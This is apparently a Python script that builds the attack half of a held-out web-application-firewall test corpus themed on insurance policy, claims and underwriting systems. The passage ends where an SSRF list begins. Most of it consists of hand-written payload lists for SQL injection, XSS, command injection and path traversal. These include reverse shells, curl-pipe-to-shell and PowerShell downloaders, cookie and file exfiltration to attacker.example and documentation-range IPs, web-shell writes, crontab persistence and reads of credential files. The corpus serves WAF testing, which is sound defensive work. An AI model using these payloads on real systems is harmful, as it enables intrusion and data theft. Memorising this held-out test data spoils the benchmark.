"""Attack half of the held-out `insurance` WAF corpus.

Payloads hidden in the notations of a policy-admin system, a claims portal and
an underwriting workbench: policy / claim / endorsement numbers, FNOL
narratives, adjuster notes, underwriting rule text, rating formulas, letter
templates, document names and photo URLs.  Each class names the sink the
vulnerable app puts the value in and the technique:
"<context>-<technique>[+<encoding>]"; "plain-" classes carry no domain text.

All payloads were written by hand for this corpus from an understanding of how
each technique works; none is copied from a public payload list.  A small
number of values are computed by applying an encoding (URL, double URL, HTML
entities) to hand-written base payloads.  Attacker infrastructure is limited
to attacker.example, 203.0.113.0/24 and 198.51.100.0/24; secrets are fake.

Run:  python3 make_attacks.py   -> writes attacks.jsonl next to this file.
"""

import json
import random
from pathlib import Path
from urllib.parse import quote

SEED = 4402
PREFIX = "ha44"

# ---------------------------------------------------------------------------
# SQL injection: value concatenated into a SQL statement
# ---------------------------------------------------------------------------
SQLI = [
    ("policy-search-tautology", "POL-2024/00871-B' OR '1'='1"),
    ("policy-search-union", "POL-2024/00871-B' UNION SELECT policy_no, insured_ssn, annual_premium FROM policies-- -"),
    ("claim-lookup-union-null-padding", "CLM-77120' UNION ALL SELECT NULL, username, password_hash, NULL FROM adjuster_users#"),
    ("claim-lookup-time-blind-sleep", "2024-0098-AU' AND SLEEP(6)-- -"),
    ("claim-lookup-stacked-pg-sleep", "2024-0099-AU'; SELECT pg_sleep(7);--"),
    ("endorsement-ref-stacked-drop", "HO3-7781204 endt 4'; DROP TABLE endorsements;--"),
    ("adjuster-note-insert-stacked-update", "TL; ACV $8,450 < ded?'); UPDATE reserves SET amount = 0 WHERE claim_id LIKE '%';--"),
    ("claim-id-numeric-tautology", "77120 OR 1=1"),
    ("claim-id-numeric-union", "77120 UNION SELECT card_number, card_expiry, cvv FROM payment_methods"),
    ("claim-lookup-mssql-waitfor", "CLM#2023-ON-004418'; WAITFOR DELAY '0:0:8'--"),
    ("quote-id-mssql-xp-cmdshell", "Q-558812'; EXEC master..xp_cmdshell 'nslookup q558812.attacker.example';--"),
    ("policy-search-error-extractvalue", "AU-55-019334-02' AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT @@version), 0x7e))-- -"),
    ("policy-search-error-updatexml", "PL-88120' AND UPDATEXML(NULL, CONCAT(0x3a, (SELECT CONCAT(login, ':', pwd) FROM uw_users LIMIT 1)), NULL)#"),
    ("policy-search-error-pg-cast", "PL-88121' AND 1=CAST((SELECT string_agg(usename, ',') FROM pg_user) AS int)--"),
    ("policy-search-error-mssql-convert", "GL-8812' AND 1=CONVERT(int, (SELECT TOP 1 name FROM sys.tables WHERE name LIKE '%claim%'))--"),
    ("umbrella-search-union-oracle-version", "UMB-00912' UNION SELECT banner, NULL FROM v$version--"),
    ("bop-search-oracle-utl-http-oob", "BOP-CA-0098812' || UTL_HTTP.REQUEST('http://203.0.113.40/c?'||(SELECT password FROM dba_users WHERE ROWNUM=1)) || '"),
    ("dwelling-search-union-sqlite-master", "DP3-220019' UNION SELECT name, sql FROM sqlite_master--"),
    ("wc-policy-boolean-blind-substring", "WC 12-345678-00' AND SUBSTRING((SELECT password FROM users WHERE login='uwadmin'),1,1)='k'-- -"),
    ("subro-file-boolean-blind-ascii", "SB-2024-1177' AND ASCII(SUBSTR((SELECT api_key FROM broker_accounts LIMIT 1),3,1))>77--"),
    ("claim-list-sort-conditional-order", "loss_date,(SELECT CASE WHEN (SELECT COUNT(*) FROM users WHERE role='admin')>0 THEN loss_date ELSE claim_no END)"),
    ("policy-list-sort-time-blind", "premium DESC, IF((SELECT SUBSTR(user(),1,4))='root', SLEEP(4), 0)"),
    ("claim-search-like-union", "water damage%' UNION SELECT claim_no, claimant_phone FROM claims WHERE '1' LIKE '1"),
    ("fnol-insert-subquery-exfil", "Rear-ended at exit 7', (SELECT GROUP_CONCAT(email, ':', password_hash) FROM portal_users))-- -"),
    ("fnol-narrative-benchmark", "Hail storm 5/23' AND BENCHMARK(9000000, SHA1('hail'))#"),
    ("policy-search-union+comment-space", "POL-2024/00871-B'/**/UNION/**/SELECT/**/tax_id,bank_account/**/FROM/**/brokers--/**/"),
    ("policy-search-union+case-mix", "PoL-558812' uNiOn SeLeCt ssn, dob FrOm InSuReDs-- -"),
    ("policy-search-tautology+urlenc", "POL-2024%2F00871-B%27%20OR%20%271%27%3D%271"),
    ("claim-lookup-union+double-urlenc", "CLM-77120%2527%2520UNION%2520SELECT%2520password%252Cnull%2520FROM%2520users--%2520"),
    ("policy-search-tautology+fullwidth-quote", "POL-88127\uff07 OR \uff07a\uff07=\uff07a"),
    ("policy-search-union+mysql-versioned-comment", "POL-88121' /*!50000UNION*/ /*!50000SELECT*/ login, pwd FROM agents-- -"),
    ("insured-name-union-hex-literal", "Gonzalez' UNION SELECT insured_name, ssn FROM insureds WHERE state=0x464c-- -"),
    ("doc-ref-union-into-outfile", "EST-1182' UNION SELECT '<?php system($_GET[\"c\"]); ?>', NULL INTO OUTFILE '/var/www/html/uploads/est.php'-- -"),
    ("policy-search-stacked-copy-to-program", "POL-1'; COPY (SELECT 1) TO PROGRAM 'curl -s http://203.0.113.7/i.sh | sh';--"),
    ("claim-lookup-mssql-dirtree-dns-oob", r"CLM-2024-0331'; DECLARE @h VARCHAR(200); SET @h=(SELECT TOP 1 password FROM users)+'.oob.attacker.example'; EXEC('master..xp_dirtree ''\\'+@h+'\a''');--"),
    ("policy-search-oracle-dbms-pipe-delay", "AUT-MX-0029911' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x', 6)--"),
    ("dwelling-search-sqlite-randomblob-delay", "DP3-220020' AND 1=LIKE('ABCDEFG', UPPER(HEX(RANDOMBLOB(400000000/2))))--"),
    ("claim-ref-conditional-division-error", "CL-0001234' AND (SELECT CASE WHEN (SELECT COUNT(*) FROM admins)>0 THEN 1/0 ELSE 1 END)=1--"),
    ("uw-rule-where-parenthesis-breakout", "age >= 25 and prior_claims = 0) OR (1=1"),
    ("uw-rule-where-union-pg-shadow", "credit_band = 'A' UNION SELECT usename, passwd, NULL FROM pg_shadow--"),
    ("claim-id-numeric-union-information-schema", "-1 UNION SELECT GROUP_CONCAT(table_name SEPARATOR 0x2c), 2 FROM information_schema.tables WHERE table_schema=DATABASE()"),
    ("auto-policy-mssql-groupby-having-error", "AUTO-3321' GROUP BY policies.policy_no, policies.insured_id HAVING 1=1--"),
    ("policy-search-union-load-file", "HO5-110022' UNION SELECT LOAD_FILE('/etc/passwd'), NULL-- -"),
    ("claim-lookup-time-blind-bitwise-or", "CLM-1188' | (SELECT 1 FROM (SELECT SLEEP(3))a) | '"),
    ("claim-lookup-stacked-pg-copy-from-file", "CLM-2024-0412'; CREATE TEMP TABLE t(l text); COPY t FROM '/etc/passwd'; SELECT string_agg(l, E'\\n') FROM t;--"),
    ("broker-profile-update-column-injection", "Northside Brokers', is_admin=1, commission_rate=0.5 WHERE broker_id=41-- -"),
    ("adjuster-note-insert-extra-row", "call back before EOD'), (41, 'approved', 999999.00)-- -"),
    ("premium-field-numeric-stacked-update", "1186.91; UPDATE policies SET annual_premium=1 WHERE policy_no='PL-88120'"),
    ("page-size-limit-procedure-analyse", "10 PROCEDURE ANALYSE(EXTRACTVALUE(5151,CONCAT(0x5c,VERSION())),1)"),
    ("policy-search-time-blind-if-hostname", "POL-77' AND IF(MID(@@hostname,1,1)='d', SLEEP(3), 0) AND 'a'='a"),
    ("claim-lookup-mssql-stacked-add-login", "CLM-9'; EXEC sp_addlogin 'uw_tmp', 'Fake-Passw0rd!'; EXEC sp_addsrvrolemember 'uw_tmp', 'sysadmin';--"),
    ("umbrella-search-oracle-ctxsys-error", "UMB-00913' AND 1=CTXSYS.DRITHSX.SN(1, (SELECT user FROM dual))--"),
    ("umbrella-search-oracle-xmltype-error", "UMB-00914' AND 1=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||(SELECT password FROM sys.user$ WHERE ROWNUM=1)||CHR(62))) FROM dual)--"),
    ("policy-search-backslash-escape-bypass", "POL-1\\' OR 1=1-- -"),
    ("policy-search-tautology+gbk-multibyte-urlenc", "POL-88%bf%27 OR 1=1-- -"),
    ("policy-search-tautology+json-unicode-escape", "POL-1\\u0027 OR 1=1-- -"),
    ("fnol-narrative-boolean-subquery", "Deer ran out on County Rd 12' AND (SELECT COUNT(*) FROM claims WHERE siu_flag=1)>100 AND 'x'='x"),
    ("insured-name-union-concat-pipes", "Gonzalez' UNION SELECT first_name || ' ' || last_name, ssn FROM insureds WHERE state='FL'--"),
    ("icd-code-search-like-tautology", "S13.4XXA' OR diagnosis_code LIKE '%"),
    ("cpt-code-numeric-pg-sleep", "99284 AND 1=(SELECT 1 FROM pg_sleep(5))"),
    ("part-number-boolean-blind-database", "71170-TBA-A00' AND (SELECT 1 FROM dual WHERE DATABASE() LIKE 'claims%')='1"),
    ("loss-date-tautology", "2024-03-14' OR loss_date > '1900-01-01"),
    ("claim-lookup-floor-rand-duplicate-key-error", "CLM-0' AND (SELECT 2 FROM (SELECT COUNT(*), CONCAT(VERSION(), FLOOR(RAND(0)*2)) x FROM information_schema.tables GROUP BY x) y)-- -"),
    ("dwelling-search-sqlite-load-extension-unc", r"DP3-1' AND 1=load_extension('\\203.0.113.5\share\x.dll')--"),
    ("claim-lookup-mssql-exec-string-concat", "CLM-7'; EXEC('SEL'+'ECT TOP 5 ssn INTO ##leak FROM claimants');--"),
    ("policy-search-pg-stacked-lo-import", "PL-2'; SELECT lo_import('/etc/passwd', 44401);--"),
    ("adjuster-filter-in-list-breakout", "3391, 3392) OR (1=1"),
    ("cat-code-union-aggregate", "24-HEL' AND 1=0 UNION SELECT cat_code, SUM(paid_amount) FROM payments GROUP BY cat_code-- -"),
    ("adjuster-note-multiline-stacked", "Res set: BI $25k / PD $6k';\nUPDATE reserves SET amount = 1 WHERE claim_id = 77120;\n-- diary 30 days"),
    ("plain-tautology-empty-string", "'or''='"),
    ("plain-tautology-limit", "' OR 1=1 LIMIT 1-- -"),
    ("plain-stacked-select", "1; SELECT * FROM information_schema.tables"),
    ("plain-comment-truncation", "admin'-- -"),
    ("plain-parenthesis-tautology", "') OR ('x'='x"),
    ("plain-double-quote-tautology", "\" OR \"\"=\""),
    ("plain-order-by-column-probe", "1' ORDER BY 7-- -"),
    ("plain-numeric-sleep", "1 AND SLEEP(5)"),
]

# ---------------------------------------------------------------------------
# XSS: value rendered into HTML / JS without escaping
# ---------------------------------------------------------------------------
XSS = [
    ("adjuster-note-script-cookie-exfil", "TL; ACV $8,450 < ded? <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("fnol-narrative-img-onerror", "Hail storm 5/23, dents on hood <img src=x onerror=\"new Image().src='//attacker.example/h?c='+encodeURIComponent(document.cookie)\">"),
    ("photo-caption-svg-onload", "Photos attached <svg onload=alert(document.domain)>"),
    ("broker-name-attr-breakout-autofocus", "Northside Brokers\" autofocus onfocus=\"alert(1)"),
    ("doc-filename-img-onerror", "IMG_4471<img src=1 onerror=alert(document.cookie)>.jpg"),
    ("claim-ref-js-string-breakout", "2024-0098-AU';fetch('//attacker.example/x',{method:'POST',body:localStorage.getItem('token')});//"),
    ("claim-ref-script-block-close", "CLM-77120</script><script>alert(origin)</script>"),
    ("broker-website-javascript-url", "javascript:fetch('//attacker.example/?'+document.cookie)"),
    ("broker-website-javascript-url+urlenc-newline", "javascript://claims.example.com/%0aalert(document.domain)"),
    ("contents-list-details-ontoggle", "Contents list <details open ontoggle=alert(1)><summary>47 items</summary></details>"),
    ("estimate-note-iframe-srcdoc", "See estimate: <iframe srcdoc=\"<script>parent.alert(document.domain)</script>\"></iframe>"),
    ("estimate-note-iframe-srcdoc+html-entities", "Supp #2: <iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\"></iframe>"),
    ("adjuster-note-body-onpageshow", "Supplement #2 approved <body onpageshow=alert(1)>"),
    ("adjuster-note-input-autofocus", "Insd upset re: delay <input autofocus onfocus=alert(document.cookie)>"),
    ("dashcam-note-video-source-onerror", "Dashcam clip: <video><source onerror=\"alert(1)\"></video>"),
    ("statement-note-audio-tagged-template", "Recorded stmt <audio src=x onerror=alert`1`>"),
    ("call-notes-textarea-breakout", "Notes from call</textarea><img src=x onerror=alert(1)>"),
    ("claim-title-title-breakout", "Claim 2024-0099</title><script>alert(1)</script>"),
    ("branding-note-style-breakout", "CAT 24-017 banner</style><svg/onload=alert(1)>"),
    ("police-report-link+html-entities", "<a href=\"&#106;avascript&#58;alert(document.domain)\">police report</a>"),
    ("dec-page-link+html-entity-tab", "<a href=\"java&#9;script:alert(1)\">dec page</a>"),
    ("estimate-link-iframe-data-uri-base64", "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+\"></iframe>"),
    ("adjuster-note-mxss-math-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"),
    ("adjuster-note-mxss-noscript-title", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("photo-caption-svg-animate-onbegin", "Roof photo <svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("photo-caption-svg-xlink-javascript", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">open claim</text></a></svg>"),
    ("broker-email-html-base-hijack", "Renewal docs attached <base href=\"https://attacker.example/\">"),
    ("letter-preview-meta-refresh", "Dear Insured, <meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("claim-message-form-injection", "Please re-verify: <form action=\"https://attacker.example/collect\" method=post><input name=password placeholder=\"Portal password\"><button>Continue</button></form>"),
    ("fnol-narrative-angularjs-csti", "Car was hit while parked {{constructor.constructor('alert(document.cookie)')()}}"),
    ("fnol-narrative-vue-csti", "Water damage in hall {{_c.constructor('alert(1)')()}}"),
    ("adjuster-note-marquee-onstart", "<marquee onstart=alert(1)>Hail CAT 24-017</marquee>"),
    ("uw-tier-cell-unquoted-attr-handler", "tier-A onmouseover=alert(1)"),
    ("doc-title-attr-breakout-overlay", "dec page\" style=\"position:fixed;inset:0;opacity:0\" onmouseover=\"alert(document.cookie)"),
    ("adjuster-note-css-attribute-exfil", "<style>input[name=csrf][value^=a]{background:url(//attacker.example/a)}</style>"),
    ("claim-comment-markdown-javascript-link", "[police report](javascript:alert(document.cookie))"),
    ("claim-comment-markdown-image-attr-breakout", "![photo 7](x\" onerror=\"alert(1))"),
    ("photo-upload-svg-script", "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script><rect width=\"10\" height=\"10\"/></svg>"),
    ("doc-filename-attr-breakout", "\"><img src=x onerror=alert(1)>.pdf"),
    ("letter-js-template-literal-interpolation", "Dear ${alert(document.domain)} ,"),
    ("adjuster-note-pointerenter-overlay", "<div onpointerenter=alert(1) style=display:block;height:100vh>ROR letter sent</div>"),
    ("estimate-note-object-data-uri", "<object data=\"data:text/html,<script>alert(1)</script>\"></object>"),
    ("estimate-note-iframe-javascript-src", "<iframe src=\"javascript:alert(document.domain)\"></iframe>"),
    ("adjuster-note-contenteditable-autofocus", "<div contenteditable autofocus onfocus=alert(1)>edit me</div>"),
    ("ale-note-content-visibility-event", "<p style=\"content-visibility:auto\" oncontentvisibilityautostatechange=alert(1)>ALE approved</p>"),
    ("adjuster-note-onclick-payee-change", "<a href=\"#\" onclick=\"fetch('/api/payees',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({claim:'77120',iban:'ZZ00FAKEIBAN0001'})})\">view photos</a>"),
    ("fnol-narrative-img-onerror+html-entities-decimal", "<img src=x onerror=&#97&#108&#101&#114&#116(1)>"),
    ("fnol-narrative-svg-onload+html-entities-hex", "<svg onload=&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>"),
    ("photo-caption-img-onerror+unicode-escape", "<img src=x onerror=\"\\u0061\\u006c\\u0065\\u0072\\u0074(1)\">"),
    ("rating-widget-onclick-code+unicode-escape", "1);\\u0061lert(document.domain);(1"),
    ("adjuster-note-eval-atob-base64", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("adjuster-note-fromcharcode", "<svg onload=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>"),
    ("fnol-narrative-img-formfeed-separator", "<img\x0csrc=x\x0conerror=alert(1)>"),
    ("fnol-narrative-img-multiline-attrs", "Kitchen fire photo\n<img\nsrc=x\nonerror=alert(1)\n>"),
    ("adjuster-note-comment-break", "<!--><img src=x onerror=alert(1)>-->"),
    ("claim-status-jsonp-callback", "alert(document.domain)//"),
    ("claim-search-reflected-img+urlenc", "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
    ("claim-search-reflected-svg+double-urlenc", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("fnol-narrative-script+case-mix", "Kitchen fire <ScRiPt>alert(document.domain)</sCrIpT>"),
    ("fnol-narrative-ja-img-onerror", "駐車場で当て逃げされました<img src=x onerror=alert(1)>"),
    ("fnol-narrative-de-svg-confirm", "Wasserschaden im Keller <svg onload=confirm(document.cookie)>"),
    ("uw-rule-display-external-script", "if age >= 25 then tier A <script src=//attacker.example/u.js></script>"),
    ("medical-note-img-onload-remote", "Dr. O'Brien's narrative: <img src=//attacker.example/p.gif onload=alert(1)>"),
    ("rating-note-select-autofocus", "Tier B <select autofocus onfocus=alert(1)></select>"),
    ("subro-letter-svg-script-entities+html-entities", "<svg><script>alert&#40;document.domain&#41;</script></svg>"),
    ("repair-line-script-in-part-number", "52119-0R901<script>document.location='https://attacker.example/?'+document.cookie</script>"),
    ("broker-email-link-javascript-uppercase+case-mix", "<a href=\"JaVaScRiPt:alert(1)\">Loss runs</a>"),
    ("plain-script-alert", "<script>alert(1)</script>"),
    ("plain-attr-breakout-script", "\"><script>alert(String.fromCharCode(88,83,83))</script>"),
    ("plain-quote-svg-onload", "'\"><svg/onload=alert(1)>"),
    ("plain-js-string-minus", "'-alert(1)-'"),
    ("plain-img-slash-separators", "<img/src/onerror=prompt(8)>"),
    ("plain-iframe-javascript-src", "<iframe src=javascript:alert(1)>"),
    ("plain-body-onload", "<body onload=alert(1)>"),
]

# ---------------------------------------------------------------------------
# Command injection: value placed into a shell command line
# ---------------------------------------------------------------------------
CMDI = [
    ("doc-convert-semicolon-curl-sh", "estimate_v2.pdf; curl -s http://203.0.113.7/s.sh | sh"),
    ("doc-convert-pipe-nc", "IMG_4471.jpg | nc 203.0.113.7 4444 -e /bin/sh"),
    ("doc-convert-and-wget-bash", "police report.pdf && wget -qO- http://attacker.example/a | bash"),
    ("doc-convert-or-write-webroot", "missing.pdf || id > /var/www/html/claims/out.txt"),
    ("doc-filename-backtick", "IMG_`id`.jpg"),
    ("doc-filename-dollar-paren", "scan_$(whoami).tif"),
    ("mail-subject-dollar-paren-exfil", "Renewal 2025 $(curl -d @/etc/passwd http://203.0.113.7/)"),
    ("claim-export-zip-newline", "CLM-77120\ncat /etc/shadow"),
    ("claim-export-zip-ifs", "CLM-77120;cat${IFS}/etc/passwd"),
    ("claim-export-brace-expansion", "CLM-1;{cat,/etc/passwd}"),
    ("claim-export-wildcard-obfuscation", "CLM-2;/???/c?t /???/p??s??"),
    ("claim-export-quote-splitting", "CLM-3;c'a't /e't'c/pa's's'w'd"),
    ("claim-export-backslash-splitting", "CLM-4;wh\\oa\\mi"),
    ("claim-export-variable-concat", "CLM-5;a=c;b=at;$a$b /etc/hostname"),
    ("claim-export-base64-pipe", "CLM-6;echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvcyB8IHNo|base64 -d|sh"),
    ("sftp-host-check-reverse-shell", "sftp.northside.example; bash -c 'bash -i >& /dev/tcp/203.0.113.7/9001 0>&1'"),
    ("sftp-host-check-sleep", "sftp.northside.example; sleep 10"),
    ("doc-convert-python-reverse-shell", "x.pdf; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("doc-convert-perl-upload", "scan.tif; perl -e 'print `cat /etc/passwd`' | curl -T - http://203.0.113.7/up"),
    ("win-doc-print-ampersand-type", "estimate.pdf & type C:\\Windows\\win.ini"),
    ("win-doc-print-powershell-iex", "estimate.pdf & powershell -nop -c \"iwr http://203.0.113.7/p.ps1 -UseBasicParsing | iex\""),
    ("win-doc-print-pipe-whoami", "dec_page.pdf | whoami /all"),
    ("win-doc-print-comspec", "x.pdf & %COMSPEC% /c net user"),
    ("win-doc-print-caret-obfuscation", "x.pdf & w^h^o^a^m^i"),
    ("win-doc-print-powershell-encodedcommand", "x.pdf & powershell -NoProfile -EncodedCommand aQB3AHIAIABoAHQAdABwADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4ANwAvAGEALgBwAHMAMQAgAC0AVQBzAGUAQgBhAHMAaQBjAFAAYQByAHMAaQBuAGcAfABpAGUAeAA="),
    ("win-doc-print-for-loop-dns-exfil", "x & for /f %i in ('whoami') do nslookup %i.oob.attacker.example"),
    ("win-doc-print-ping-delay", "x & ping -n 12 127.0.0.1"),
    ("doc-archive-tar-checkpoint-argument-injection", "--checkpoint=1 --checkpoint-action=exec=sh claim_photos.sh"),
    ("photo-url-curl-output-argument-injection", "http://photos.example.com/IMG_0012.jpg -o /var/www/html/IMG_0012.php"),
    ("photo-url-wget-post-file-argument-injection", "--post-file=/etc/passwd http://203.0.113.7/"),
    ("doc-search-find-exec", "*.pdf -exec sh -c 'id > /tmp/o' ;"),
    ("claim-export-zip-testcommand-argument-injection", "CLM-77120.zip -T -TT 'sh -c id #'"),
    ("broker-email-sendmail-argument-injection", "broker@example.com -OQueueDirectory=/tmp -X/var/www/html/claims/log.php"),
    ("sftp-host-ssh-proxycommand", "-oProxyCommand=curl${IFS}203.0.113.7|sh"),
    ("photo-convert-imagemagick-pipe-prefix", "|curl http://203.0.113.7/m | sh"),
    ("claim-export-dns-exfil-hostname", "CLM-8;nslookup $(hostname).oob.attacker.example"),
    ("claim-export-pipe-sleep", "CLM-9 | sleep 15"),
    ("doc-convert+urlenc-newline", "estimate.pdf%0Aid"),
    ("doc-convert+urlenc", "estimate.pdf%3Bcat%20%2Fetc%2Fpasswd"),
    ("doc-convert+double-urlenc", "estimate.pdf%253Bid%253B"),
    ("claim-export-ifs-positional", "CLM-10;cat$IFS$9/etc/passwd"),
    ("claim-export-tab-separator", "CLM-11;cat\t/etc/passwd"),
    ("claim-export-input-redirect-as-space", "CLM-12;cat</etc/passwd"),
    ("claim-export-hex-printf", "CLM-13;$(printf '\\x69\\x64')"),
    ("claim-export-rev-obfuscation", "CLM-14;$(echo 'dwssap/cte/ tac' | rev)"),
    ("claim-export-rot13-herestring", "CLM-15;$(tr 'a-z' 'n-za-m' <<< 'vq')"),
    ("mail-subject-double-quote-breakout", "FW: loss runs \"; id; echo \""),
    ("log-search-single-quote-breakout", "water damage'; id; echo '"),
    ("claim-export-crontab-persistence", "CLM-16; (crontab -l; echo '*/5 * * * * curl -s http://203.0.113.7/b|sh') | crontab -"),
    ("claim-export-authorized-keys", "CLM-17; echo 'ssh-ed25519 AAAAFAKEKEYPLACEHOLDERONLY uw' >> ~/.ssh/authorized_keys"),
    ("claim-export-busybox-nc", "CLM-18; busybox nc 203.0.113.7 9003 -e sh"),
    ("claim-export-mkfifo-shell", "CLM-19; rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 9004 > /tmp/f"),
    ("photo-convert-socat-shell", "IMG_0001.jpg; socat tcp:203.0.113.7:9005 exec:'sh -li',pty,stderr"),
    ("doc-convert-php-fsockopen", "x.pdf; php -r '$s=fsockopen(\"203.0.113.7\",9006);exec(\"sh <&3 >&3 2>&3\");'"),
    ("doc-convert-awk-system", "x.pdf; awk 'BEGIN{system(\"id\")}'"),
    ("doc-convert-curl-upload-config", "x.pdf; curl -F f=@/app/config/settings.py https://attacker.example/up"),
    ("doc-convert-env-dump", "x.pdf; env | curl --data-binary @- http://203.0.113.7/e"),
    ("renewal-batch-policy-and-suid", "POL-2024/00871-B && chmod +s /bin/bash"),
    ("report-title-double-quote-dropper", "tier A\"; wget http://203.0.113.7/k -O /tmp/k; chmod +x /tmp/k; /tmp/k; \""),
    ("claim-export-home-substring-slash", "CLM-20;cat${HOME:0:1}etc${HOME:0:1}passwd"),
    ("fnol-pdf-narrative-backtick-multiline", "Rear-ended on I-95\n`curl -s http://203.0.113.7/f | sh`\nno injuries"),
    ("cat-report-code-dollar-paren-wget", "CAT 24-017 $(wget -q -O /tmp/.c http://203.0.113.7/c && sh /tmp/.c)"),
    ("printer-name-semicolon", "claims-floor2; cat /etc/cups/printers.conf | nc 203.0.113.7 9007"),
    ("ocr-language-argument-newline-rm", "eng\nrm -rf /var/claims/tmp/*"),
    ("plain-semicolon-id", "; id"),
    ("plain-pipe-passwd", "| cat /etc/passwd"),
    ("plain-backtick-sleep", "`sleep 5`"),
    ("plain-dollar-paren-id", "$(id)"),
    ("plain-ampersand-whoami", "& whoami &"),
    ("plain-newline-uname", "x\nuname -a\n"),
    ("plain-or-ping-delay", "|| ping -c 10 127.0.0.1"),
]

# ---------------------------------------------------------------------------
# Path traversal: value used as (part of) a file path
# ---------------------------------------------------------------------------
TRAVERSAL = [
    ("doc-download-claim-folder-escape", "claims/2024/CLM-77120/../../../../../../etc/shadow"),
    ("photo-thumbnail-proc-environ", "CLM-77120/photos/../../../../../../proc/self/environ"),
    ("win-doc-download-backslash", "..\\..\\..\\..\\Windows\\win.ini"),
    ("doc-download-file-then-dotdot", "estimate_v2.pdf/../../../../../../root/.aws/credentials"),
    ("doc-download+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("doc-download+double-urlenc", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fhosts"),
    ("doc-download+overlong-utf8-dot", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("doc-download+overlong-utf8-slash", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("win-doc-download+double-urlenc-backslash", "..%255c..%255c..%255cwindows%255cwin.ini"),
    ("doc-download-nested-strip-bypass", "....//....//....//....//etc/passwd"),
    ("doc-download-dot-slash-strip-bypass", "..././..././..././etc/passwd"),
    ("doc-viewer-path-param-semicolon", "/docs/..;/..;/manager/html"),
    ("doc-download-null-byte-extension+urlenc", "../../../../etc/passwd%00.pdf"),
    ("doc-download-absolute-proc-cwd", "/proc/self/cwd/app/settings.py"),
    ("doc-download-k8s-serviceaccount-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("doc-download-ssh-private-key", "../../../../home/claims-svc/.ssh/id_rsa"),
    ("template-name-dotenv", "../../.env"),
    ("doc-download-git-config", "../../../.git/config"),
    ("win-template-web-config", "..\\..\\web.config"),
    ("win-doc-download-absolute-web-config", "C:\\inetpub\\wwwroot\\web.config"),
    ("win-doc-download-repair-sam", "..\\..\\..\\Windows\\repair\\sam"),
    ("photo-zip-entry-zip-slip", "../../../../var/www/html/uploads/shell.jsp"),
    ("win-photo-zip-entry-zip-slip", "..\\..\\..\\inetpub\\wwwroot\\aspnet_client\\a.aspx"),
    ("letter-template-include-php-filter", "php://filter/convert.base64-encode/resource=../config/database.php"),
    ("letter-template-include-zip-wrapper", "zip://uploads/IMG_4471.jpg%23shell.php"),
    ("doc-download-mixed-separators", "..\\/..\\/..\\/etc/passwd"),
    ("doc-download+fullwidth-nfkc", "\uff0e\uff0e\uff0f\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fpasswd"),
    ("doc-download+percent-u-unicode", "..%u2215..%u2215..%u2215etc%u2215passwd"),
    ("letter-locale-dir-escape", "locale/../../../../../etc/hosts"),
    ("win-doc-download-boot-ini", "..\\..\\..\\..\\boot.ini"),
    ("report-view-nginx-access-log", "../../../../var/log/nginx/access.log"),
    ("doc-download-proc-cmdline", "/proc/self/cmdline"),
    ("doc-download-mysql-config", "../../../../etc/mysql/my.cnf"),
    ("template-name-rails-secrets", "../../config/secrets.yml"),
    ("template-name-app-source", "../app.py"),
    ("doc-download-docker-config", "../../../../root/.docker/config.json"),
    ("doc-download-bash-history", "../../../../home/uw-batch/.bash_history"),
    ("policy-pdf-policy-number-with-slash", "POL-2024/00871-B/../../../../etc/passwd"),
    ("cat-report-code-with-slash", "CAT 24-017/../../../../../etc/group"),
    ("doc-download+urlenc-slash-only", "..%2f..%2f..%2f..%2fetc%2fshadow"),
    ("win-doc-download+urlenc-backslash", "..%5c..%5c..%5cwindows%5csystem.ini"),
    ("doc-download+urlenc-dots-only", "%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("doc-download+double-urlenc-slash-only", "..%252f..%252f..%252fetc%252fpasswd"),
    ("endorsement-form-template-traversal", "forms/HO 04 90/../../../../../../etc/passwd"),
    ("medical-record-attachment-gcp-credentials", "records/2024/../../../../../root/.config/gcloud/credentials.db"),
    ("upload-target-overwrite-authorized-keys", "../../../../home/claims-svc/.ssh/authorized_keys"),
    ("win-doc-download-unc-dotdot-mixed", "..\\..//..\\..//windows/system32/drivers/etc/hosts"),
    ("plain-dotdot-passwd", "../../../../../../../../../../etc/passwd"),
    ("plain-win-dotdot-hosts", "..\\..\\..\\..\\..\\..\\windows\\system32\\drivers\\etc\\hosts"),
    ("plain-absolute-etc-shadow", "/etc/shadow"),
    ("plain-rooted-dotdot-hosts", "/../../../../../../../etc/hosts"),
]

# ---------------------------------------------------------------------------
# SSRF: value is a URL the server fetches (photo import, broker site, webhook)
# ---------------------------------------------------------------------------
SSRF = [
